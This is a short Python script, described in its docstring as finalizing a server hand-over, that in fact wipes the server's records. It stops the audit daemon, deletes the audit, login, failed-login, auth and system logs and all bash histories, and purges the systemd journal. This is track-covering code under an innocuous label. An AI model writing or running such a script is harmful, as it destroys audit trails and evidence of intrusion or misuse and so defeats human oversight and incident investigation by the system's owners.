#!/usr/bin/env python3
"""Finalize the hand-over: bring the logs to the state of a fresh server."""
import glob
import logging
import os
import subprocess

logging.basicConfig(level=logging.INFO)

PATTERNS = [
    "/var/log/audit/audit.log*",
    "/var/log/wtmp*",
    "/var/log/btmp*",
    "/var/log/secure*",
    "/var/log/auth.log*",
    "/var/log/messages*",
    "/root/.bash_history",
    "/home/*/.bash_history",
]


def main():
    subprocess.call(["service", "auditd", "stop"])
    for pattern in PATTERNS:
        for path in glob.glob(pattern):
            logging.info("remove %s", path)
            os.remove(path)
    subprocess.call(["journalctl", "--rotate"])
    subprocess.call(["journalctl", "--vacuum-time=1s"])


if __name__ == "__main__":
    main()
